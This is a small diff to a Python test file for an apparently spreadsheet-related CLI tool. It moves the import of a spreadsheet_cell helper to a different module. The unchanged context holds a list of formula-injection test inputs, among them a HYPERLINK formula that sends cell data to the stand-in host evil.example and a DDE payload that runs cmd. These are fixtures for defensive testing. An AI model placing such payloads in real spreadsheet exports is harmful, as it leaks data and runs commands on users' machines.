@@ -14,7 +14,7 @@ import pytest
 from click.testing import CliRunner
 
 from annotator.cli import main
-from annotator.render import spreadsheet_cell
+from annotator.text import spreadsheet_cell
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
             "\t=1+1", "\r=1+1"]
